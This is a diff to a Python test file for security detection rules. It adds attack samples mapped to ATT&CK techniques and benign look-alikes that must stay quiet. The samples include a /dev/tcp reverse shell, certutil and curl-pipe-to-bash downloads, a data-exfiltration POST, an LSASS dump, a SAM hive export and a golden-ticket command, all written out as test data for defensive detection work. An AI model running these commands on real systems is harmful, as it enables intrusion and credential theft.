@@ -74,7 +74,7 @@ POSITIVES = [
         "aws-instance-unusual-region",
         "T1578.002",
     ),
-    (aws("PutBucketLifecycle"), "aws-destruction", "T1485.001"),
+    (aws("PutBucketLifecycle"), "bucket-lifecycle-expiry", "T1485.001"),
     (aws("ScheduleKeyDeletion"), "aws-destruction", "T1485"),
     (aws("DeleteRecoveryPoint"), "aws-destruction", "T1490"),
     (aws("SendCommand"), "aws-cloud-execution", "T1651"),
@@ -89,7 +89,8 @@ POSITIVES = [
     (aws("GetSecretValue"), "aws-cloud-discovery", "T1555.006"),
     (aws("ListBuckets"), "aws-cloud-discovery", "T1619"),
     (aws("DescribeInstances"), "aws-cloud-discovery", "T1580"),
-    (aws("GetObject"), "aws-cloud-discovery", "T1530"),
+    (aws("GetObject"), "cloud-storage-object-read", "T1530"),
+    (gcp("storage.objects.get"), "cloud-storage-object-read", "T1530"),
     (aws("GetAccountAuthorizationDetails"), "aws-cloud-discovery", "T1087.004"),
     (
         aws("ConsoleLogin", message="Console login from a new country for this user"),
@@ -374,6 +375,151 @@ POSITIVES = [
     (cmd("snmpset -v2c -c private 10.0.0.1 1.3.6.1.4.1.9.9.96.1.1.1.1.2.111 i 1"), "network-config-pull", "T1602.002"),
     ({"message": "copy running-config tftp://203.0.113.9/r1.cfg"}, "network-config-pull", "T1602.002"),
     (cmd("./ptunnel-ng -p 203.0.113.9 -l 8000 -r 127.0.0.1 -R 22"), "icmp-tunnel", "T1095"),
+    # --- technique precision: each observable names the technique ATT&CK files it under
+    (cmd("certutil -urlcache -split -f http://203.0.113.9/a.txt a.exe"), "certutil-download", "T1105"),
+    (cmd("certutil -decode C:\\ProgramData\\a.b64 C:\\ProgramData\\a.dll"), "certutil-decode", "T1140"),
+    (cmd("certutil -encode %TEMP%\\w.zip %TEMP%\\w.txt"), "certutil-encode", "T1027.013"),
+    (cmd("bash -i >& /dev/tcp/203.0.113.50/4444 0>&1"), "reverse-shell", "T1095"),
+    (cmd('python3 -c import pty;pty.spawn("/bin/bash")'), "tty-upgrade", "T1059.004"),
+    (cmd("launchctl load -w /Library/LaunchDaemons/com.example.helper.plist"), "launch-daemon", "T1543.004"),
+    (cmd("launchctl load -w /Library/LaunchDaemons/com.example.helper.plist"), "launchctl-load", "T1569.001"),
+    ({"file": {"path": "/Users/bob/Library/LaunchAgents/com.example.agent.plist"}}, "launch-agent", "T1543.001"),
+    (
+        {"file": {"path": "/Users/bob/Library/LaunchAgents/com.apple.softwareupdate.agent.plist"}},
+        "apple-plist-masquerade",
+        "T1036.005",
+    ),
+    (cmd('osascript -e tell application "System Events" to make login item at end'), "login-item-add", "T1547.015"),
+    (cmd("net localgroup administrators eve /add"), "admin-group-add", "T1098.007"),
+    (cmd("reg save HKLM\\SECURITY C:\\Windows\\Temp\\sec.hiv"), "sam-hive-export", "T1003.004"),
+    (
+        cmd("copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\Windows\\System32\\config\\SAM C:\\t\\s"),
+        "shadow-copy-credential-files",
+        "T1003.002",
+    ),
+    (
+        {"file": {"path": "/Users/bob/Library/Application Support/Google/Chrome/Default/Cookies"}},
+        "browser-cookie-theft",
+        "T1539",
+    ),
+    (cmd("nltest /domain_trusts /all_trusts"), "ad-ldap-discovery", "T1482"),
+    (cmd('adfind.exe -f "(objectcategory=computer)" name'), "ad-ldap-discovery", "T1018"),
+    (cmd("SharpHound.exe -c All"), "ad-recon-tools", "T1018"),
+    (cmd("powershell -w h -ep bypass -f .\\data\\r.ps1"), "powershell-evasive-launch", "T1059.001"),
+    (cmd("powershell -w h -ep bypass -f .\\data\\r.ps1"), "hidden-window", "T1564.003"),
+    (cmd('powershell -nop -c "iwr -useb https://example.test/p.ps1 | iex"'), "powershell-download-cradle", "T1105"),
+    ({"powershell": {"file": {"script_block_text": "Get-Process"}}}, "script-block-logged", "T1059.001"),
+    (
+        {"powershell": {"file": {"script_block_text": "$b=$a.GetField('am'+'siInit'+'Failed','NonPublic,Static')"}}},
+        "powershell-string-obfuscation",
+        "T1027.010",
+    ),
+    (
+        cmd("rundll32.exe C:\\Windows\\System32\\comsvcs.dll #+0000^24 648 C:\\t\\d.bin full"),
+        "lsass-dump-comsvcs",
+        "T1003.001",
+    ),
+    (
+        cmd("rundll32.exe C:\\Windows\\System32\\comsvcs.dll #+0000^24 648 C:\\t\\d.bin full"),
+        "cmd-caret-obfuscation",
+        "T1027.010",
+    ),
+    (
+        cmd('cmd.exe /c "whoami /priv & certutil -urlcache -f http://203.0.113.9/p.exe p.exe"'),
+        "cmd-chained-commands",
+        "T1059.003",
+    ),
+    (cmd('cmd.exe /c "whoami /priv & hostname"'), "whoami-discovery", "T1033"),
+    (
+        {
+            "process": {
+                "command_line": "cmd.exe /c vssadmin list shadows",
+                "name": "cmd.exe",
+                "parent": {"name": "WmiPrvSE.exe"},
+            }
+        },
+        "wmi-spawned-shell",
+        "T1047",
+    ),
+    (cmd("wmic shadowcopy delete"), "wmic-action", "T1047"),
+    (cmd("PsExec64.exe \\\\FS02 -s -accepteula -c C:\\Users\\Public\\r.exe"), "psexec-copy", "T1570"),
+    ({"file": {"path": "\\\\FS02\\ADMIN$\\svc.exe"}}, "remote-share-executable-write", "T1570"),
+    (cmd("7z.exe a -t7z C:\\PerfLogs\\f.7z \\\\fs01\\finance$\\2026\\*"), "unc-share-collection", "T1039"),
+    (cmd("vmtoolsd.exe copy \\\\fs01\\finance$ mg:bk2026 --transfers 12"), "unc-share-collection", "T1039"),
+    (cmd("tar czf - /var/lib/pgsql/backups | ssh dump@198.51.100.23 'cat > b.tgz'"), "archive-piped-out", "T1048"),
+    (cmd("curl -s --upload-file w.txt https://paste.c-net.org/"), "paste-site-upload", "T1567.003"),
+    (cmd("curl -X POST --data-binary @/tmp/out.zip http://203.0.113.7/upload"), "exfil-over-web", "T1041"),
+    (cmd("ditto -c -k /Users/bob/Documents /tmp/.d.zip"), "staging-archive-sensitive", "T1005"),
+    (cmd("bash -c {echo,Y3VybCBodHRwOi8vZXhhbXBsZQ==}|{base64,-d}|{bash,-i}"), "shell-brace-obfuscation", "T1027.010"),
+    (cmd("bash -c {echo,Y3VybCBodHRwOi8vZXhhbXBsZQ==}|{base64,-d}|{bash,-i}"), "base64-decode-to-shell", "T1140"),
+    (cmd("bash -c unset HISTFILE; export HISTSIZE=0"), "history-logging-disabled", "T1562.003"),
+    (
+        {"process": {"name": "sh", "command_line": "sh -c id", "parent": {"name": "php-fpm8.1"}}},
+        "web-shell",
+        "T1505.003",
+    ),
+    (
+        {
+            "process": {
+                "name": "bash",
+                "command_line": "bash -c curl -s http://203.0.113.9/x | bash",
+                "parent": {"name": "java"},
+            }
+        },
+        "app-server-exploit-shell",
+        "T1190",
+    ),
+    # --- masquerading
+    ({"process": {"executable": "C:\\ProgramData\\USOShared\\svchosts.exe"}}, "windows-binary-masquerade", "T1036.005"),
+    ({"process": {"name": "sshd", "executable": "/dev/shm/.s/sshd"}}, "daemon-name-masquerade", "T1036.005"),
+    (
+        {"process": {"executable": "/Users/bob/Library/Caches/com.adobe.flashhelper"}},
+        "vendor-updater-masquerade",
+        "T1036.005",
+    ),
+    ({"process": {"name": "pd64.exe", "pe": {"original_file_name": "procdump"}}}, "renamed-tool", "T1036.003"),
+    (
+        {"process": {"name": "vmtoolsd.exe", "pe": {"original_file_name": "rclone.exe"}}},
+        "renamed-tool-legit-name",
+        "T1036.005",
+    ),
+    # --- user execution, discovery, misc.
+    (
+        {
+            "process": {
+                "command_line": 'wscript.exe "C:\\Users\\bob\\Downloads\\label.vbs"',
+                "parent": {"name": "explorer.exe"},
+            }
+        },
+        "user-opened-file",
+        "T1204.002",
+    ),
+    (
+        {
+            "registry": {
+                "path": "HKU\\S-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU\\a",
+                "data": {"strings": "mshta https://captcha.example/c # I am not a robot"},
+            }
+        },
+        "clickfix-runmru",
+        "T1204.004",
+    ),
+    (cmd("python3 /tmp/mp.py"), "python-script-temp", "T1059.006"),
+    (cmd('sh -c ioreg -rd1 -c IOPlatformExpertDevice | grep -iE "VirtualBox|VMware"'), "vm-detection", "T1497.001"),
+    (cmd("system_profiler SPHardwareDataType"), "hardware-discovery", "T1082"),
+    (cmd("curl -s ifconfig.me"), "external-ip-lookup", "T1016"),
+    (
+        cmd("/Users/bob/Library/Application Support/.helper/Helper.app/Contents/MacOS/Helper"),
+        "hidden-dir-user-library",
+        "T1564.001",
+    ),
+    (
+        cmd('m64.exe "kerberos::golden /user:Administrator /domain:x /sid:S-1-5-21-1 /krbtgt:00 /ptt"'),
+        "pass-the-ticket",
+        "T1550.003",
+    ),
+    ({"message": "host generated 400 NXDOMAIN responses for random-looking .top names"}, "dga-nxdomain", "T1568.002"),
+    ({"message": "module loaded; taints kernel; lsmod no longer lists it"}, "rootkit-hiding", "T1014"),
 ]
 
 # (benign alert, indicator ids that must stay quiet)
@@ -504,6 +650,39 @@ NEGATIVES = [
     (cmd("terraform plan -out tfplan"), []),
     (cmd("git push origin main"), []),
     (cmd("apt-get -y upgrade"), []),
+    # benign look-alikes of the indicators added for technique precision
+    (cmd("certutil -hashfile setup.exe SHA256"), ["certutil-download", "certutil-decode", "certutil-encode"]),
+    (cmd("launchctl list"), ["launchctl-load"]),
+    ({"file": {"path": "/System/Library/LaunchDaemons/com.apple.softwareupdated.plist"}}, ["apple-plist-masquerade"]),
+    (cmd("reg save HKLM\\SYSTEM C:\\backup\\system.hiv"), ["sam-hive-export"]),
+    (cmd("git rebase -i HEAD^2"), ["cmd-caret-obfuscation"]),
+    (cmd("cmd.exe /c dir C:\\"), ["cmd-chained-commands"]),
+    (cmd("wmic os get caption"), ["wmic-action"]),
+    ({"process": {"executable": "C:\\Windows\\System32\\svchost.exe"}}, ["windows-binary-masquerade"]),
+    ({"process": {"executable": "C:\\Windows\\explorer.exe"}}, ["windows-binary-masquerade"]),
+    ({"process": {"name": "sshd", "executable": "/usr/sbin/sshd"}}, ["daemon-name-masquerade"]),
+    ({"process": {"name": "procdump64.exe", "pe": {"original_file_name": "procdump"}}}, ["renamed-tool"]),
+    (cmd("ssh deploy@web-01 'sudo systemctl restart nginx'"), ["archive-piped-out"]),
+    (cmd("tar czf backup.tgz /srv/app"), ["archive-piped-out"]),
+    (cmd("curl -F file=@report.pdf https://discord.com/api/webhooks/1/x"), ["exfil-over-web"]),
+    (
+        {"process": {"name": "sh", "command_line": "sh -c mvn -q package", "parent": {"name": "java"}}},
+        ["app-server-exploit-shell"],
+    ),
+    (cmd("robocopy C:\\src D:\\dst /MIR"), ["unc-share-collection"]),
+    (cmd("copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\data.txt C:\\t"), ["unc-share-collection"]),
+    (cmd("python3 /opt/app/manage.py migrate"), ["python-script-temp"]),
+    (cmd("system_profiler SPDisplaysDataType"), ["hardware-discovery", "vm-detection"]),
+    (
+        {
+            "process": {
+                "command_line": 'notepad.exe "C:\\Users\\bob\\Downloads\\notes.txt"',
+                "parent": {"name": "explorer.exe"},
+            }
+        },
+        ["user-opened-file"],
+    ),
+    ({"message": "DNS resolution returned NXDOMAIN for printer.corp.local"}, ["dga-nxdomain"]),
 ]
 
 
